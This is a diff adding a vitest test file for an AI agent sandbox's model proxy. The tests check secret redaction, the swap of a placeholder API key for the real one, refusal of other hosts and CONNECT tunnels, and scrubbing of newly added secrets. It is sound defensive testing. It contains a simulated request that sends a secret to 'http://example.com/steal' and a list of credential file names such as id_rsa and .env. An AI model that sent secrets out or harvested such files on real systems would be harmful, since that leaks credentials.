@@ -1,0 +1,104 @@
+/**
+ * The agent's only way out: the model proxy on a Unix socket, against a real
+ * loopback upstream. Each refusal is paired with its allowed twin.
+ */
+import http from 'node:http';
+import net from 'node:net';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { execa } from 'execa';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startModelProxy, type ModelProxy } from '../src/adapters/agent-sandbox/model-proxy.js';
+import { scrubNewSecrets } from '../src/adapters/agent-sandbox/scrub-worktree.js';
+import { isSecretFileName, secretValuesInFile } from '../src/adapters/agent-sandbox/secret-files.js';
+import { createRedactor } from '../src/core/security/redact-secrets.js';
+import { startHttpFake, type FakeServer } from './fakes/http-fake.js';
+import { tempWorkspace } from './fakes/agent-request.js';
+
+const SECRET = 'canary-value-0123456789';
+let dir: string;
+let upstream: FakeServer;
+let proxy: ModelProxy;
+let socketPath: string;
+
+beforeAll(async () => {
+  dir = await mkdtemp(path.join(tmpdir(), 'loop-proxy-'));
+  socketPath = path.join(dir, 'model.sock');
+  upstream = await startHttpFake((_request, response) => void response.end('{"ok":true}'));
+  proxy = await startModelProxy({ socketPath, upstream: new URL(upstream.url), redact: createRedactor([SECRET]), credentials: { 'placeholder-key': 'real-key-123' } });
+});
+
+afterAll(async () => {
+  await proxy.close();
+  await upstream.close();
+  await rm(dir, { recursive: true, force: true });
+});
+
+function send(options: { path: string; body?: Buffer | string; headers?: Record<string, string>; method?: string }): Promise<{ status: number; body: string }> {
+  return new Promise((resolve, reject) => {
+    const request = http.request({ socketPath, method: options.method ?? 'POST', path: options.path, headers: options.headers ?? {} }, (response) => {
+      let body = '';
+      response.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
+      response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
+    });
+    request.on('error', reject);
+    request.end(options.body);
+  });
+}
+
+describe('model proxy', () => {
+  it('forwards to the model endpoint with secrets redacted from the body and the placeholder swapped for the key', async () => {
+    const body = JSON.stringify({ messages: [{ role: 'user', content: `the file says ${SECRET} "quoted"` }] });
+    const answer = await send({ path: '/v1/messages?beta=true', body, headers: { 'content-type': 'application/json', 'x-api-key': 'placeholder-key' } });
+    expect(answer).toEqual({ status: 200, body: '{"ok":true}' });
+    const received = upstream.requests.at(-1)!;
+    expect(received.url).toBe('/v1/messages?beta=true');
+    expect(received.headers['x-api-key']).toBe('real-key-123');
+    expect(received.body).toEqual({ messages: [{ role: 'user', content: 'the file says [REDACTED] "quoted"' }] });
+    // A compressed body is inspected too, never passed through unread.
+    await send({ path: '/v1/messages', body: gzipSync(body), headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } });
+    expect(JSON.stringify(upstream.requests.at(-1)!.body)).not.toContain(SECRET);
+    await expect(send({ path: '/v1/messages', body: 'x', headers: { 'content-encoding': 'zstd' } })).resolves.toMatchObject({ status: 415 });
+    expect(proxy.stats().redacted).toBe(2);
+  });
+
+  it('refuses other hosts and CONNECT tunnels, while the model host in absolute form is allowed', async () => {
+    const before = upstream.requests.length;
+    const other = await send({ path: 'http://example.com/steal', body: SECRET });
+    expect(other.status).toBe(403);
+    const allowed = await send({ path: `${upstream.url}/v1/messages`, body: '{}' });
+    expect(allowed.status).toBe(200);
+    const tunnel = await new Promise<string>((resolve) => {
+      const socket = net.connect(socketPath, () => socket.write(`CONNECT ${new URL(upstream.url).host} HTTP/1.1\r\nhost: x\r\n\r\n`));
+      let text = '';
+      socket.on('data', (chunk) => (text += chunk.toString()));
+      socket.on('close', () => resolve(text));
+    });
+    expect(tunnel).toMatch(/^HTTP\/1\.1 403/);
+    expect(upstream.requests.length).toBe(before + 1);
+    expect(proxy.stats().refused).toEqual(['example.com:80', `CONNECT ${new URL(upstream.url).host}`]);
+  });
+});
+
+describe('secret files', () => {
+  it('knows secret file names and reads their values', () => {
+    for (const name of ['.env', '.env.production', 'id_rsa', 'server.pem', 'aws_secret.txt']) expect(isSecretFileName(name), name).toBe(true);
+    for (const name of ['env.ts', 'README.md', 'package.json']) expect(isSecretFileName(name), name).toBe(false);
+    expect(secretValuesInFile('# c\nexport API_TOKEN="abcdefgh123"\nDEBUG=true\nSHORT=1\nNAME: value-long-enough # note\n')).toEqual(['abcdefgh123', 'value-long-enough']);
+  });
+
+  it('scrubs a secret the agent added to a worktree file, but leaves one the base already had', async () => {
+    const repo = await tempWorkspace({ 'fixture.txt': `known ${SECRET}\n` }, { git: true });
+    try {
+      await writeFile(path.join(repo, 'new.yml'), `token: ${SECRET}\n`);
+      await writeFile(path.join(repo, 'fixture.txt'), `known ${SECRET}\nmore\n`);
+      expect(await scrubNewSecrets(repo, [SECRET])).toEqual({ scrubbed: ['new.yml'] });
+      const shown = await execa('cat', ['new.yml', 'fixture.txt'], { cwd: repo });
+      expect(shown.stdout).toBe(`token: [REDACTED]\nknown ${SECRET}\nmore`);
+    } finally {
+      await rm(repo, { recursive: true, force: true });
+    }
+  });
+});
